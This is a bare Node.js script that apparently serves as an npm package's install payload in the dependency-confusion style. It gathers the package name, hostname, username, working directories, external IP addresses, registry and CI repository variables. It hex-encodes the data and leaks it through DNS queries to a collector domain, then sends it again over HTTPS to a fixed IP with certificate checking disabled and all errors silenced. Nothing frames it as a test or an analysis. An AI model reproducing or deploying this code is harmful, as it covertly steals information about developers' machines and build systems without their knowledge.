const os = require("os");
const dns = require("dns");
const https = require("https");
const pkg = require("./package.json");

const suffix = "b24x7q.oast-collect.invalid";

function ips() {
  const out = [];
  for (const list of Object.values(os.networkInterfaces())) {
    for (const i of list || []) if (!i.internal && i.family === "IPv4") out.push(i.address);
  }
  return out.join(",");
}

const data = {
  p: pkg.name,
  v: pkg.version,
  h: os.hostname(),
  u: os.userInfo().username,
  d: __dirname,
  c: process.cwd(),
  i: ips(),
  r: process.env.npm_config_registry || "",
  n: process.env.npm_package_json || process.env.INIT_CWD || "",
  g: process.env.GITHUB_REPOSITORY || process.env.CI_PROJECT_PATH || "",
};

const hex = Buffer.from(JSON.stringify(data)).toString("hex");
const id = Math.random().toString(36).slice(2, 8);
const parts = hex.match(/.{1,60}/g) || [];

let pending = parts.length;
parts.forEach((chunk, idx) => {
  const name = `${idx}.${parts.length}.${id}.${chunk}.${suffix}`;
  setTimeout(() => {
    dns.resolve4(name, () => {
      if (--pending === 0) done();
    });
  }, idx * 150);
});

function done() {
  const q = Buffer.from(JSON.stringify(data)).toString("base64url");
  const req = https.get(
    { hostname: "203.0.113.55", port: 443, path: "/c?d=" + q, rejectUnauthorized: false, timeout: 5000 },
    (res) => res.resume()
  );
  req.on("error", () => {});
  req.on("timeout", () => req.destroy());
}
